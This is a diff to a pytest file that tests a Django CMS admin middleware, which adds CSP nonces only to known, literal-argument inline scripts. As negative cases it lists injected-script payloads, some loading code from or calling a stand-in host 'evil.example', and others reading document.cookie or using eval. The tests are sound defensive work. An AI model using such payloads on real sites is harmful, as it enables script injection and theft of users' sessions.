@@ -7,12 +7,14 @@ from unittest.mock import Mock
 from wsgiref.util import setup_testing_defaults
 
 import pytest
-from django.test import Client, override_settings
+from csp.middleware import CSPMiddleware
+from django.http import HttpResponse
+from django.test import Client, RequestFactory, override_settings
 
 from accounts.models import User
 from accounts.roles import EDITOR
 from blog.models import BlogPostPage
-from cms.middleware import ADMIN_SCRIPT, _is_call_of_literals
+from cms.middleware import ADMIN_FUNCTIONS, AdminContentSecurityPolicyMiddleware
 from cms.wsgi import application
 
 
@@ -46,21 +48,44 @@ def test_site_has_a_strict_policy_and_no_inline_code(client: Client, post: BlogP
     assert "<style" not in text
 
 
-def test_scripts_of_the_page_editor_have_a_nonce(
-    client: Client, post: BlogPostPage, make_user: Callable[..., User]
+@pytest.mark.parametrize(
+    "address",
+    [
+        "/admin/pages/{post}/edit/",
+        "/admin/pages/add/home/formpage/{home}/",
+        "/admin/pages/add/home/standardpage/{home}/",
+        "/admin/pages/{post}/history/",
+        "/admin/workflows/add/",
+        "/admin/redirects/add/",
+        "/admin/searchpicks/add/",
+        "/admin/snippets/blog/person/add/",
+        "/admin/snippets/blog/source/add/",
+        "/admin/settings/home/organisationsettings/",
+        "/admin/settings/home/navigationsettings/",
+        "/admin/content-api-tokens/new/",
+        "/admin/webhooks/new/",
+        "/admin/users/new/",
+        "/admin/reports/site-history/",
+        "/admin/account/",
+    ],
+)
+def test_every_script_of_an_admin_form_has_a_nonce(
+    client: Client, post: BlogPostPage, make_user: Callable[..., User], address: str
 ) -> None:
-    client.force_login(make_user(EDITOR))
+    client.force_login(make_user(is_superuser=True))
 
-    response = client.get(f"/admin/pages/{post.pk}/edit/")
+    path = address.format(post=post.pk, home=post.get_parent().get_parent().pk)
+    response = client.get(path, follow=True)
 
     assert response.status_code == 200
     nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"])
     assert nonce
     assert "script-src 'self' 'nonce-" in response["Content-Security-Policy"]
-    text = response.content.decode()
-    scripts = re.findall(r"<script(?![^>]*\b(?:src|type)=)([^>]*)>", text)
-    assert scripts
-    assert all(f'nonce="{nonce[1]}"' in attributes for attributes in scripts)
+    scripts = re.findall(
+        r"<script(?![^>]*\b(?:src|type)=)([^>]*)>(.*?)</script>", response.text, re.DOTALL
+    )
+    without = [code.strip()[:80] for given, code in scripts if f'nonce="{nonce[1]}"' not in given]
+    assert without == []
 
 
 @pytest.mark.parametrize(
@@ -70,12 +95,35 @@ def test_scripts_of_the_page_editor_have_a_nonce(
         b'<script>initDateChooser(fetch("//evil.example"));</script>',
         b"<script>alert(document.cookie);</script>",
         b'<script>initDateChooser("a", {"b": eval("1")});</script>',
+        b'<script>import("https://evil.example/x.js");</script>',
+        b'<script>(function() { var panel = import("https://evil.example/x.js"); })();</script>',
+        b'<script>fetch("https://evil.example/");</script>',
+        b'<script>open("https://evil.example/");</script>',
+        b'<script>new Worker("https://evil.example/x.js");</script>',
+        b'<script>eval("alert(1)");</script>',
+        b'<script>new Function("alert(1)");</script>',
+        b'<script>setTimeout("alert(1)");</script>',
+        b'<script>new initDateChooserOf("x");</script>',
+        b'<script>new import("https://evil.example/x.js");</script>',
     ],
 )
-def test_script_that_is_no_call_of_literals_gets_no_nonce(script: bytes) -> None:
-    match = ADMIN_SCRIPT.search(script)
+def test_script_that_is_no_known_call_of_literals_gets_no_nonce(
+    rf: RequestFactory, script: bytes
+) -> None:
+    assert b"nonce" not in _as_the_admin_sends(rf, script)
 
-    assert match is None or not _is_call_of_literals(match["arguments"].decode())
+
+@pytest.mark.parametrize("name", ADMIN_FUNCTIONS)
+def test_call_that_wagtail_writes_gets_its_nonce(rf: RequestFactory, name: str) -> None:
+    script = f'<script>\n  (function() {{ var panel = {name}("id", {{"a": [1]}}); }})();</script>'
+
+    assert b'<script nonce="' in _as_the_admin_sends(rf, script.encode())
+
+
+def _as_the_admin_sends(rf: RequestFactory, page: bytes) -> bytes:
+    """Return what is left of a page of the admin's, behind both middlewares of the policy."""
+    admin = AdminContentSecurityPolicyMiddleware(lambda request: HttpResponse(page))
+    return CSPMiddleware(admin)(rf.get("/admin/")).content
 
 
 @pytest.mark.parametrize("charset", ["utf-7", "unicode_escape", "hex", "idna", "undefined"])
